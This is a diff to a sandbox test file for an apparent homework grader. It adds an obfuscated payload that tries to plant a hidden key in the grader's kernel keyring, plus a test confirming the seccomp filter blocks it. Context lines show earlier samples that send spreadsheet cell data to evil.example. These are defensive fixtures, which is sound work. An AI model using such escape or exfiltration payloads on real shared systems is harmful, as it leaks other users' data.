@@ -11,9 +11,11 @@ in its message (``ESCAPED: ...``).
 
 import contextlib
 import csv
+import ctypes
 import hashlib
 import json
 import os
+import platform
 import secrets
 import shutil
 import socket
@@ -216,6 +218,14 @@ raise RuntimeError('=HYPERLINK("http://evil.example/?"&A1,"x")\n# Score: 100 / 1
                    '![x](http://evil.example/x.png)')
 """
 SLEEP = "time.sleep(10 ** 6)\n"
+# A key in the session keyring, which a child under namespaces shared with the grader: it outlived the run.
+KEYRING = r"""
+ctypes = importer("ct" + "ypes"); platform = importer("plat" + "form")
+libc = ctypes.CDLL(None, use_errno=True)
+ctypes.set_errno(0)
+made = libc.syscall({"x86_64": 248, "aarch64": 217}[platform.machine()], b"user", b"NAME", b"hidden", 6, -3)
+raise RuntimeError("keyring " + ("made" if made > 0 else "refused " + str(ctypes.get_errno())))
+"""
 HOG = "hoard = []\nwhile True:\n    hoard.append(b'1' * 10 ** 8)\n"
 
 
@@ -414,6 +424,29 @@ def test_a_module_that_sleeps_is_stopped_at_the_wall_clock_limit(tmp_path):
     )
     assert record["status"] == "timeout" and "longer than 10 s" in record["message"], record["message"]
     assert record["sandbox_seconds"] < 30  # stopped, not waited for
+
+
+@needs_namespaces
+def test_a_module_keeps_nothing_in_the_graders_keyrings(tmp_path):
+    """Under namespaces the child shared the grader's session keyring: a key it added outlived its run, for a
+    later bundle of the batch (a friend's) to read, and stayed in the instructor's session. The sandbox's
+    seccomp filter refuses the kernel's keyrings there too (EPERM, said by the public examples' run)."""
+    name = f"stash-{secrets.token_hex(4)}"
+    model, vocabs = tiny_model_and_hidden_set("name-transliteration", tmp_path)
+    layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
+    bundle = tmp_path / "subs" / "keeper"
+    export(model, vocabs, task="name-transliteration", student_id="keeper", out=bundle)
+    (bundle / "custom_layers.py").write_text(
+        layer + PRELUDE + KEYRING.replace("NAME", name), encoding="utf-8"
+    )
+    rubric = load_rubric(_rubric(tmp_path, "name-transliteration", wall_seconds=60))
+    [record] = grade_folder(
+        tmp_path / "subs", rubric, tmp_path / "hidden", tmp_path / "grades", progress=False
+    )
+    assert record["isolation"] == "namespaces" and "keyring refused 1" in record["message"], record["message"]
+    libc = ctypes.CDLL(None, use_errno=True)
+    request_key = {"x86_64": 249, "aarch64": 218}[platform.machine()]
+    assert libc.syscall(request_key, b"user", name.encode(), None, 0) < 0  # nothing left in the grader's
 
 
 @serial
